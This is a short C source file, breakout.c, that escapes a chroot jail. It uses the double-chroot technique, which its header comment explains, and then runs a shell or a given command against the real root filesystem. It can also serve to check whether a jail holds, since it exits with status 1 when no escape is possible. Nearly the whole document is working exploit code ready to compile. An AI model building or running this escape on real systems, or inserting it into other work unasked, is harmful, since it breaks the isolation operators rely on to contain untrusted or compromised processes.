/* breakout.c - leave a chroot.
 *
 * chroot(2) moves the root directory of a process, and nothing else: the current directory
 * stays where it was. So a process that is root makes a second chroot further down. Its
 * current directory is then *outside* of its root, the rule "the root has no parent" does
 * not hold there, and chdir("..") climbs up to the real root.
 *
 *   breakout [COMMAND...]   run COMMAND (/bin/sh) outside; status 1 if there is no way out
 *
 * After pivot_root(2) and umount2(2) there is nothing to climb to. It is linked statically:
 * outside there may be another C library.
 *
 * SPDX-License-Identifier: MIT
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static int
failed(const char *what)
{
    perror(what);
    return 1;
}

int
main(int argc, char **argv)
{
    struct stat before, after;
    if (chdir("/") < 0 || stat(".", &before) < 0)
        return failed("breakout: look at /");

    if (mkdir("breakout.dir", 0700) < 0 && errno != EEXIST)
        return failed("breakout: mkdir");
    int is_moved = chroot("breakout.dir");
    rmdir("breakout.dir");
    if (is_moved < 0)
        return failed("breakout: chroot");

    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return failed("breakout: chdir");
    if (chroot(".") < 0 || stat("/", &after) < 0)
        return failed("breakout: chroot");

    if (after.st_dev == before.st_dev && after.st_ino == before.st_ino) {
        fputs("breakout: no way out: this is the real root\n", stderr);
        return 1;
    }
    char *shell[] = {"/bin/sh", NULL};
    char **command = argc > 1 ? argv + 1 : shell;
    execvp(command[0], command);
    return failed("breakout: exec");
}
